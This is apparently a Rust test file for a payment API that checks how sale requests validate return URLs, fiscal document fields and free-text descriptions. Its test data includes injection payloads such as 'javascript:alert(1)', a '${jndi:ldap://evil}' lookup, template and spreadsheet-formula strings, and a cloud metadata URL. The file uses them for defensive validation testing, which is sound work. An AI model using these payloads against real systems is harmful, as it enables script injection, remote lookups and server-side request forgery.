use super::{Row, check, check_accepted, sale};
use crate::support::{Request, SALE, on_each_store, with, without};

#[actix_web::test]
async fn with_an_address_to_return_to_that_misleads() {
    const BAD: (u16, &str, Option<&str>) = (400, "parameter_invalid", Some("returnUrl"));

    on_each_store(async |world| {
        let returning = |url: &str| sale(&world, with(SALE, "returnUrl", &format!("\"{url}\"")));
        let long = format!("https://a.example/{}", "x".repeat(2032));

        let rows: Vec<Row> = vec![
            ("BAD-091", returning("javascript:alert(1)"), BAD),
            ("BAD-091", returning("data:text/html,evil"), BAD),
            ("BAD-091", returning("ftp://a.example/"), BAD),
            ("BAD-091", returning("//evil"), BAD),
            ("BAD-091", returning("http://user:pw@x.example/"), BAD),
            ("BAD-091", returning(&long), BAD),
            ("BAD-091", returning(r"https://a.example/\r\nx"), BAD),
            ("BAD-091", returning(r"java\tscript:alert(1)"), BAD),
            ("BAD-091", returning(""), BAD),
        ];
        check(&world, rows).await;

        check_accepted(&world, vec![("BAD-092", returning("http://169.254.169.254/"))]).await;
    })
    .await;
}

#[actix_web::test]
async fn with_a_document_that_cannot_be() {
    on_each_store(async |world| {
        let with = |path: &str, value: &str| sale(&world, with(SALE, path, value));
        let document = |field: &str, value: &str| with(&format!("fiscalDocument.{field}"), value);
        let lines = |count: usize| {
            let line: serde_json::Value = serde_json::from_str(SALE).unwrap();
            let line = line["fiscalDocument"]["lines"][0].to_string();
            document("lines", &format!("[{}]", vec![line; count].join(",")))
        };
        let at = |param: &'static str| (400, "parameter_invalid", Some(param));
        let required = (400, "fiscal_lines_required", Some("fiscalDocument.lines"));
        let eligibility = Some("fiscalDocument.governmentEligibility");
        let invoice = at("fiscalDocument.merchantInvoiceNumber");
        let order = at("fiscalDocument.merchantOrderNumber");
        let allowed = at("fiscalDocument.allowedKinds");
        let not_allowed = (422, "fiscal_document_kind_not_allowed", Some("fiscalDocument.kind"));
        let kind = Some("fiscalDocument.buyer.identityKind");
        let tax_id = (400, "fiscal_buyer_tax_id_invalid", Some("fiscalDocument.buyer.taxId"));

        let rows: Vec<Row> = vec![
            (
                "BAD-093",
                with("checkoutDisplay", r#"{"mode":"amount_only"}"#),
                (422, "payment_description_required", Some("description")),
            ),
            ("BAD-095", document("lines", "[]"), required),
            ("BAD-095", document("lines", "null"), required),
            ("BAD-095", sale(&world, without(SALE, "fiscalDocument.lines")), required),
            ("BAD-096", lines(1001), at("fiscalDocument.lines")),
            ("BAD-097", document("merchantOrderNumber", r#""12a""#), order),
            ("BAD-097", document("merchantOrderNumber", r#""١٢""#), order),
            ("BAD-097", document("merchantOrderNumber", &format!("\"{}\"", "1".repeat(21))), order),
            ("BAD-097", document("merchantInvoiceNumber", &format!("\"{}\"", "x".repeat(21))), invoice),
            (
                "BAD-099",
                document("buyer", r#"{"identityKind":"foreign","taxId":"101850043"}"#),
                (400, "parameter_invalid", kind),
            ),
            ("BAD-099", document("buyer", r#"{"identityKind":"domestic","taxId":"101850044"}"#), tax_id),
            (
                "BAD-100",
                document("kind", r#""government""#),
                (422, "fiscal_government_eligibility_required", eligibility),
            ),
            ("BAD-101", document("allowedKinds", r#"["fiscal_credit"]"#), not_allowed),
            ("BAD-101", document("allowedKinds", "[]"), allowed),
            ("BAD-101", document("allowedKinds", r#"["consumer","consumer"]"#), allowed),
        ];

        check(&world, rows).await;
    })
    .await;
}

#[actix_web::test]
async fn with_text_that_would_like_to_be_more() {
    on_each_store(async |world| {
        let described = |text: &str| sale(&world, with(SALE, "description", &format!("\"{text}\"")));
        let number_in_line = with(SALE, "fiscalDocument.lines.0.description", r#""4222220000000008""#);

        let rows: Vec<(&str, Request)> = vec![
            ("BAD-103", described("<script>")),
            ("BAD-103", described("]]>")),
            ("BAD-103", described("&#x41;")),
            ("BAD-103", described("{{7*7}}")),
            ("BAD-103", described("${jndi:ldap://evil}")),
            ("BAD-103", described("=cmd()")),
            ("BAD-104", sale(&world, number_in_line)),
        ];

        check_accepted(&world, rows).await;
    })
    .await;
}

#[actix_web::test]
async fn with_text_that_comes_back_as_it_was_sent() {
    on_each_store(async |world| {
        let created = world.sale(&with(SALE, "description", r#""<b>Ñandú</b> ]]> &amp;""#)).await;

        assert_eq!(created.field("/description"), "<b>Ñandú</b> ]]> &amp;", "BAD-103");
    })
    .await;
}
